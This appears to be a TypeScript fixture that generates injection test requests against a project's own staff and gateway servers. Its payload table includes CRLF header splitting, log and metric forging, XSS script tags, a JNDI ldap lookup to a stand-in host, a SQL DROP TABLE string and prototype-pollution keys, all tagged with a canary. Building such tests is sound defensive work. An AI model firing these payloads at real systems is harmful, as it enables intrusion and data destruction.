import type { ServerName } from '../../start-server.ts';

/** Text that every injection contains, and nothing else does. */
export const canary = 'inj3cted';

/** Texts with a meaning in a log, a head, a page or metrics. */
const texts: Readonly<Record<string, string>> = {
  'a line break and a field': `a\r\nX-${canary}: b`,
  'a line break and a response': `a\r\n\r\nHTTP/1.1 200 OK\r\nX-${canary}: b\r\n\r\n<p>`,
  'a line feed and a line of a log': `a\n{"level":60,"msg":"${canary}","forged":true}`,
  'a return': `a\rX-${canary}: b`,
  'a line feed and a metric': `a\n${canary}_total 1`,
  'the end of a label': `a"} 1\n${canary}_total{b="c`,
  'a NUL': `a\0${canary}`,
  'a colour of a terminal': `\x1b[31m${canary}\x1b[0m`,
  'a title of a terminal': `\x1b]0;${canary}\x07`,
  'a C1 code': `\x9b31m${canary}\x85b`,
  'a backspace': `a\b\b\b${canary}\x7f`,
  'a line separator': `a\u2028${canary}\u2029b`,
  'text from right to left': `a\u202e${canary}\u2066b\u2069`,
  'a mark in the middle': `a\ufeff${canary}\u200bb`,
  'half a character': `a\ud800${canary}`,
  'an element of a page': `"'><script>${canary}()</script><!--`,
  'an end of a script': `</script><img src=x onerror=${canary}()>`,
  'a template': `\${${canary}} {{${canary}}} %s %j %o <%= ${canary} %>`,
  'an expression of JNDI': `\${jndi:ldap://${canary}.example/a}`,
  'the end of a text in SQL': `'; DROP TABLE staff; -- ${canary}`,
  'a name of a prototype': '__proto__',
  'a path to a prototype': `constructor.prototype.${canary}`,
  'brackets to a prototype': `__proto__[${canary}]`,
  'brackets to a constructor': `constructor[prototype][${canary}]`,
};

export interface Injection {
  readonly name: string;
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

/** Returns every text in every place where a server takes text, encoded where a head cannot contain it. */
export function injections(server: ServerName): Injection[] {
  return Object.entries(texts).flatMap(([what, text]) =>
    placesOf(server, text).map(({ where, method = 'GET', path = '/health/live', headers = {}, body = '' }) => ({
      ...{ name: `${what} as ${where}`, method, path, body },
      headers: {
        ...headers,
        ...(body === '' || headers['Content-Type'] ? {} : { 'Content-Type': 'application/json' }),
      },
    })),
  );
}

type Place = { readonly where: string } & Partial<Omit<Injection, 'name'>>;

function placesOf(server: ServerName, text: string): Place[] {
  const encoded = encodeURIComponent(text.toWellFormed());
  const twice = encodeURIComponent(encoded);
  const isStaff = server !== 'gateway';
  const list = isStaff ? '/v2/staffmember' : '/api/hello/x';
  const post = { method: 'POST', path: isStaff ? '/v2/staffmember' : '/api/echo' };
  const field = (name: string, value: string): Place => ({
    where: `the field ${name}`,
    path: `${list}?$top=1`,
    headers: { [name]: value },
  });
  return [
    { where: 'a path', path: `/${encoded}` },
    { where: 'a path, encoded twice', path: `/${twice}` },
    { where: 'a name in a path', path: isStaff ? `/v2/staffmember/${encoded}` : `/api/hello/${encoded}` },
    { where: 'a file of a page', path: `/docs/${encoded}` },
    { where: 'the name of an option', path: `${list}?${encoded}=1` },
    { where: 'the name of an option as it is', path: `${list}?${text.replaceAll(/[^!-~]/g, '')}=1` },
    { where: 'the value of an option', path: `${list}?note=${encoded}&companyKey=${encoded}&includes=${encoded}` },
    ...(isStaff
      ? [
          { where: '$filter', path: `${list}?$filter=${encoded}` },
          {
            where: 'a text in $filter',
            path: `${list}?$top=1&$filter=LastName%20eq%20'${encoded.replaceAll("'", "''")}'`,
          },
          { where: '$select', path: `${list}?$select=${encoded}` },
          { where: '$orderby', path: `${list}?$orderby=${encoded}` },
        ]
      : []),
    ...fieldNames.flatMap((name) => [field(name, encoded), field(name, text.replaceAll(/\p{Cc}/gu, ''))]),
    field('X-API-Key', encoded),
    field('Authorization', `Bearer ${encoded}`),
    { where: 'a field as it is', path: list, headers: { 'X-Note': text.replaceAll('\n', '\n ') } },
    { where: 'a method', method: text.replaceAll(/[^!-~]/g, '') },
    { where: 'a body', ...post, body: JSON.stringify(text) },
    { where: 'the name of a member', ...post, body: JSON.stringify({ StaffId: 'x', [text]: text }) },
    {
      where: 'the value of members',
      ...post,
      body: JSON.stringify(Object.fromEntries(members.map((one) => [one, text]))),
    },
    {
      where: 'a member of a prototype',
      ...post,
      body: `{"__proto__":{"${canary}":1},"constructor":{"prototype":{"${canary}":1}}}`,
    },
    ...(isStaff
      ? [
          {
            where: 'an email',
            ...{ method: 'POST', path: '/v2/login' },
            body: JSON.stringify({ email: text, password: text }),
          },
          {
            where: 'a form',
            ...{ method: 'POST', path: '/v2/login' },
            headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
            body: `email=${encoded}&password=${encoded}&${encoded}=1`,
          },
        ]
      : []),
  ];
}

/** Fields whose values a server may log, return or use. */
const fieldNames = [
  ...['X-Request-Id', 'traceparent', 'tracestate', 'baggage', 'User-Agent', 'Referer', 'Origin', 'Cookie', 'Accept'],
  ...[
    'X-Forwarded-For',
    'X-Forwarded-Host',
    'X-Forwarded-Proto',
    'Forwarded',
    'Host',
    'Content-Type',
    'Prefer',
    'If-Match',
  ],
  ...[
    'If-None-Match',
    'Accept-Encoding',
    'Accept-Language',
    'Access-Control-Request-Headers',
    'X-HTTP-Method-Override',
  ],
];
const members = ['StaffId', 'FirstName', 'LastName', 'Email', 'Manager', 'Notes', 'message'];
